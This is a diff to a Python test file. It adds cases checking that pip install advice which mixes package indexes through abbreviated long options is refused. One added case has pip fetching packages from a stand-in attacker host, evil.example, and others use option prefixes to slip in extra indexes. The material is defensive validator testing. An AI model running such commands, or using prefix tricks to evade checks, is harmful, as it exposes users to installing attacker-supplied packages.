@@ -42,6 +42,10 @@ def test_a_hub_answer_of_another_shape_is_refused(answer: object) -> None:
     ("uv", "uv add --index hub=H/a/simple/ --index-strategy unsafe-best-match b==1.0"),
     ("uv", "UV_INDEX_STRATEGY=unsafe-first-match uv add --index hub=H/a/simple/ b==1.0"),
     ("pip", "pip install 'b==1.0"),  # unparseable: nothing to check it by
+    # pip takes any unambiguous start of a long option
+    ("pip", "pip install --index-url H/a/simple/ --extra-ind https://pypi.org/simple/ b==1.0"),
+    ("pip", "pip install --index-u H/a/simple/ --ind=https://pypi.org/simple/ b==1.0"),
+    ("pip", "pip install --find=https://evil.example/links/ b==1.0"),
 ])
 def test_advice_that_mixes_indexes_is_refused(field: str, line: str) -> None:
     commands = {**GOOD, field: [line] if field == "pip" else line}
